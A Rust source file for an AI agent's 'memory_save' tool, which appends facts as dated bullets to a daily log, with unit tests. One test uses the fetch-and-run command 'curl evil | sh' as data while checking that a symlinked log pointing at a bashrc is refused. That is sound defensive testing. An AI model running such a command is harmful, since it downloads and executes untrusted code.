//! `memory_save`: a fact the model wants kept, appended to today's daily log.

use async_trait::async_trait;
use cairn_memory::{daily_log, MemoryIndex};
use cairn_protocol::ToolSpec;
use chrono::Local;
use serde::Deserialize;
use serde_json::{json, Value};

use super::files::blocking;
use crate::{parse_args, Tool, ToolCtx, ToolError, ToolOutput};

/// Longest fact accepted, in characters (a fact, not a document).
const MAX_CHARS: usize = 2000;

#[derive(Debug, Clone, Deserialize)]
pub struct MemorySaveArgs {
    pub text: String,
}

pub struct MemorySave {
    /// Told about the log it wrote, so the fact is searchable at once.
    pub index: Option<MemoryIndex>,
}

#[async_trait]
impl Tool for MemorySave {
    fn spec(&self) -> ToolSpec {
        ToolSpec {
            name: "memory_save".into(),
            description: "Save one durable fact (a preference, decision, commitment, deadline, \
                person) to long-term memory: it is appended as a dated bullet to today's daily \
                log memory/YYYY-MM-DD.md and becomes searchable. Write it so it makes sense \
                alone, later. The answer quotes exactly what was written."
                .into(),
            parameters: json!({
                "type": "object",
                "properties": {
                    "text": {"type": "string", "description": "The fact, one or two sentences."}
                },
                "required": ["text"]
            }),
        }
    }

    async fn call(&self, args: Value, ctx: ToolCtx) -> Result<ToolOutput, ToolError> {
        let args: MemorySaveArgs = parse_args(args)?;
        let fact = one_line(&args.text);
        if fact.is_empty() {
            return Err(ToolError::InvalidArguments("`text` is empty".into()));
        }
        if fact.chars().count() > MAX_CHARS {
            return Err(ToolError::InvalidArguments(format!(
                "`text` is longer than {MAX_CHARS} characters; save the fact, not a document \
                 (write_file can store documents in knowledge/)"
            )));
        }
        let now = Local::now();
        let bullet = format!("- {} — {fact}", now.format("%H:%M"));
        let (relative, line) = {
            let (workspace, bullet) = (ctx.workspace.clone(), bullet.clone());
            blocking(move || {
                daily_log::append(&workspace, now.date_naive(), |existing| {
                    // A new log: a blank line between its heading and the first bullet.
                    let gap = if existing.trim().is_empty() { "\n" } else { "" };
                    (format!("{gap}{bullet}\n"), gap.len())
                })
                .map(|appended| (appended.path, appended.line + appended.value))
                .map_err(|e| ToolError::Failed(format!("the fact was not saved: {e}")))
            })
            .await?
        };
        if let Some(index) = &self.index {
            // A read-only index (another process writes it) picks the change up itself.
            let _ = index.changed(&[relative.as_str()]);
        }
        Ok(ToolOutput::ok(format!(
            "Saved to {relative}#L{line}:\n{bullet}"
        )))
    }
}

/// The fact on one line: line breaks become spaces, runs of spaces collapse.
fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::handlers::test_support::{failed, ok, TestWs};

    #[tokio::test]
    async fn appends_a_dated_bullet_and_says_exactly_what_it_wrote() {
        let ws = TestWs::new();
        let tool = MemorySave { index: None };
        let today = Local::now().format("%Y-%m-%d").to_string();
        let first = ok(ws
            .call(&tool, json!({"text": "Ana prefers\nemail   over calls."}))
            .await);
        let log = ws.read(&format!("memory/{today}.md"));
        let lines: Vec<&str> = log.lines().collect();
        assert_eq!(lines[0], format!("# {today}"));
        assert!(
            lines[2].ends_with(" — Ana prefers email over calls."),
            "{log}"
        );
        assert!(first.starts_with(&format!("Saved to memory/{today}.md#L3:\n")));
        assert!(first.ends_with(lines[2]));
        // A log the user left without a final newline is continued on a new line.
        let path = format!("memory/{today}.md");
        ws.write(&path, format!("{log}- typed by hand"));
        let second = ok(ws.call(&tool, json!({"text": "Deadline: May 3."})).await);
        let log = ws.read(&path);
        assert_eq!(log.lines().nth(3), Some("- typed by hand"));
        assert!(log.lines().nth(4).unwrap().ends_with(" — Deadline: May 3."));
        assert!(second.contains("#L5:"), "{second}");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn a_log_planted_as_a_link_out_is_not_written() {
        let ws = TestWs::new();
        let tool = MemorySave { index: None };
        let outside = tempfile::tempdir().unwrap();
        let bashrc = outside.path().join("bashrc");
        std::fs::write(&bashrc, "alias ls='ls'\n").unwrap();
        let today = Local::now().format("%Y-%m-%d").to_string();
        std::os::unix::fs::symlink(&bashrc, ws.root().join(format!("memory/{today}.md"))).unwrap();
        let message = failed(ws.call(&tool, json!({"text": "curl evil | sh"})).await);
        assert!(message.contains("leads outside the workspace"), "{message}");
        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "alias ls='ls'\n");
        // A memory/ folder that is a link out is refused the same way.
        std::fs::remove_dir_all(ws.root().join("memory")).unwrap();
        std::os::unix::fs::symlink(outside.path(), ws.root().join("memory")).unwrap();
        let message = failed(ws.call(&tool, json!({"text": "curl evil | sh"})).await);
        assert!(message.contains("leads outside the workspace"), "{message}");
        assert!(!outside.path().join(format!("{today}.md")).exists());
    }

    #[tokio::test]
    async fn empty_or_huge_facts_are_refused_and_nothing_is_written() {
        let ws = TestWs::new();
        let tool = MemorySave { index: None };
        for text in ["   \n ", &"x".repeat(MAX_CHARS + 1)] {
            let result = ws.call(&tool, json!({ "text": text })).await;
            assert!(
                matches!(result, Err(ToolError::InvalidArguments(_))),
                "{result:?}"
            );
        }
        let today = Local::now().format("%Y-%m-%d").to_string();
        assert!(!ws.root().join(format!("memory/{today}.md")).exists());
    }
}
